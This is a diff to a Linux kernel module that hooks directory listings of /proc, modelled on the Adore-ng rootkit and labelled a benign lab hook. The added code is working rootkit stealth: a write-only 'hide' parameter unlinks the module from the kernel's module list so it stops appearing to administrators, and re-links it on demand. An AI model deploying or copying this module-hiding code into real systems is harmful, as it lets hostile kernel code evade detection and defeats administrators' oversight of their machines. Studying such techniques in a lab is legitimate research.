@@ -3,10 +3,12 @@
  * A benign hook for the lab's guest: listings of /proc go through this module,
  * which passes them on. The file operations of /proc's root directory are
  * replaced by a copy whose iterate_shared is ours, as Adore-ng replaced
- * readdir.
+ * readdir. With hide=1, now or later, it is not on the kernel's list of modules,
+ * and with hide=0 it is again; nobody else is to load modules meanwhile.
  */
 #include <linux/fs.h>
 #include <linux/module.h>
+#include <linux/rculist.h>
 #include <linux/timekeeping.h>
 
 static const struct file_operations *original;
@@ -21,6 +23,28 @@ static int passed_on(struct file *file, struct dir_context *context)
 	ktime_get_real_seconds();
 	return result;
 }
+
+static struct list_head *place;
+
+static int set_hide(const char *value, const struct kernel_param *param)
+{
+	bool hide;
+	int error = kstrtobool(value, &hide);
+
+	if (error || hide == !!place)
+		return error;
+	if (hide) {
+		place = THIS_MODULE->list.prev;
+		list_del_rcu(&THIS_MODULE->list);
+	} else {
+		list_add_rcu(&THIS_MODULE->list, place);
+		place = NULL;
+	}
+	return 0;
+}
+
+static const struct kernel_param_ops hide_ops = { .set = set_hide };
+module_param_cb(hide, &hide_ops, NULL, 0200);
 
 static int __init hook_init(void)
 {
